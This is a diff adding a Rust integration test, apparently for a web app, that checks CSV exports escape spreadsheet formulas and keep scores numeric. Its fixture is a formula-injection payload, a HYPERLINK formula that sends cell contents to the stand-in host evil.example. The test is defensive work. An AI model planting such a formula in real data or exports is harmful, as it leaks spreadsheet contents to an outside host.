@@ -100,3 +100,56 @@ async fn made_up_addresses_do_not_grow_the_servers_memory() {
         "20,000 made-up addresses grew the server by {grown} KiB"
     );
 }
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+
+#[tokio::test]
+async fn csv_for_spreadsheets_carries_no_formulas() {
+    use answerable::db::schema::companies;
+    use diesel::prelude::*;
+    let (app, _mailbox, editor, _links) = invited("formula", 1, 1).await;
+    diesel::update(companies::table)
+        .set(companies::name.eq(FORMULA))
+        .execute(&mut app.conn())
+        .unwrap();
+    let neutral = format!("'{FORMULA}");
+    let first_cell = |csv: &str| -> String {
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let row = reader.records().next().unwrap().unwrap();
+        row[0].to_string()
+    };
+
+    let directory = editor.get("/admin/companies/export.csv").await;
+    assert_eq!(directory.status, StatusCode::OK);
+    assert_eq!(first_cell(&directory.body), neutral);
+    let targets = editor.get("/admin/campaigns/formula/targets.csv").await;
+    assert_eq!(targets.status, StatusCode::OK);
+    assert_eq!(first_cell(&targets.body), neutral);
+
+    // Exported and imported again, the name is as it was.
+    let records = answerable::domain::directory_csv::parse(directory.body.as_bytes()).unwrap();
+    assert_eq!(records[0].name, FORMULA);
+
+    let closed = editor
+        .submit("/admin/campaigns/formula/state", &[("to", "closed")])
+        .await;
+    assert_eq!(closed.status, StatusCode::SEE_OTHER, "{}", closed.body);
+    let published = editor
+        .submit("/admin/campaigns/formula/publish", &[("note", "First")])
+        .await;
+    assert_eq!(
+        published.status,
+        StatusCode::SEE_OTHER,
+        "{}",
+        published.body
+    );
+    let public = app.browser().get("/campaigns/formula/scorecard.csv").await;
+    assert_eq!(public.status, StatusCode::OK);
+    assert_eq!(first_cell(&public.body), neutral);
+    // Scores stay numbers: the total column of a company that did not respond.
+    let mut reader = csv::Reader::from_reader(public.body.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let total = headers.iter().position(|h| h == "total").unwrap();
+    let row = reader.records().next().unwrap().unwrap();
+    assert!(row[total].parse::<f64>().is_ok(), "{:?}", &row[total]);
+}
